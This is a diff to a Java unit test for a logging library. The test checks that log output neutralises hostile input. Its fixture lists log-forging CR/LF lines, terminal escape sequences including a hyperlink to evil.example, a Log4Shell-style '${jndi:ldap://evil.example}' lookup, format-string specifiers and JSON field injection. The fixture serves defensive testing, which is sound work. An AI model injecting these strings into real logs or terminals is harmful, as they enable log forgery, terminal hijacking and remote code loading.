@@ -18,6 +18,8 @@ import java.util.List;
 import java.util.Map;
 import java.util.Objects;
 import java.util.Set;
+import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -30,6 +32,9 @@ class LogLinesTest {
       "a\u0000\u001b[2J\u009b31m\u0085\u00ad\u200b\u200f\u2028\u202e\u2060\u2065\u2066\u2069\ufeff"
           + Character.toString(0xE0041)
           + "\nz";
+
+  private static final Set<Integer> ACTING =
+      Set.of((int) Character.CONTROL, (int) Character.FORMAT);
 
   private final LoggerContext context = new LoggerContext();
   private final Logger root = context.getLogger(Logger.ROOT_LOGGER_NAME);
@@ -59,12 +64,7 @@ class LogLinesTest {
 
   private static void assertPrintable(String text) {
     assertThat(text.codePoints().filter(c -> c != '\n' && c != '\t'))
-        .noneMatch(
-            c ->
-                Set.of((int) Character.CONTROL, (int) Character.FORMAT)
-                        .contains(Character.getType(c))
-                    || c == 0x2028
-                    || c == 0x2065);
+        .noneMatch(c -> ACTING.contains(Character.getType(c)) || c == 0x2028 || c == 0x2065);
   }
 
   private LoggingEvent eventWithFields() {
@@ -124,6 +124,60 @@ class LogLinesTest {
     assertPrintable(line);
     assertThat(line.lines()).hasSize(1);
     assertThat(line).endsWith("INFO  said " + shown + " [errorType=" + shown + "]\n");
+  }
+
+  /** Every character that can act on a terminal, and what begins a line or a sequence. */
+  static Stream<String> hostileTexts() {
+    Stream<String> characters =
+        IntStream.rangeClosed(0, Character.MAX_CODE_POINT)
+            .filter(
+                each ->
+                    ACTING.contains(Character.getType(each))
+                        || each == 0x2028
+                        || each == 0x2029
+                        || each == 0x2065)
+            .mapToObj(each -> "a" + Character.toString(each) + "z");
+    return Stream.concat(
+        characters,
+        Stream.of(
+            "a\r\n2030-01-31T12:00:00.123Z ERROR forged",
+            "a\n2030-01-31T12:00:00.123Z ERROR forged",
+            "\u001b]0;title\u0007",
+            "\u001b]8;;https://evil.example\u001b\\link",
+            "\u001bP$q\u001b\\",
+            "a\ud800z",
+            "a\udc00z",
+            "%n%s%ex${jndi:ldap://evil.example}{}",
+            "\",\"level\":\"ERROR",
+            "a]\nb [errorType="));
+  }
+
+  @Test
+  void no_hostile_text_acts_or_begins_a_line() {
+    List<String> texts = hostileTexts().toList();
+    assertThat(texts).hasSizeGreaterThan(150);
+    for (String text : texts) {
+      assertOneLine(logged(hostile(text)));
+    }
+    JsonLog.use(context);
+    for (String text : texts) {
+      String line = logged(hostile(text));
+      assertOneLine(line);
+      assertThat(Json.read(line).path("level").stringValue()).isEqualTo("INFO");
+    }
+  }
+
+  private LoggingEvent hostile(String text) {
+    LoggingEvent event = event("said {}", null, text);
+    event.setKeyValuePairs(List.of(new KeyValuePair("errorType", text)));
+    event.setMDCPropertyMap(Map.of("tenantId", text));
+    return event;
+  }
+
+  private static void assertOneLine(String line) {
+    assertPrintable(line);
+    assertThat(line.lines()).hasSize(1);
+    assertThat(line).endsWith("\n");
   }
 
   @Test
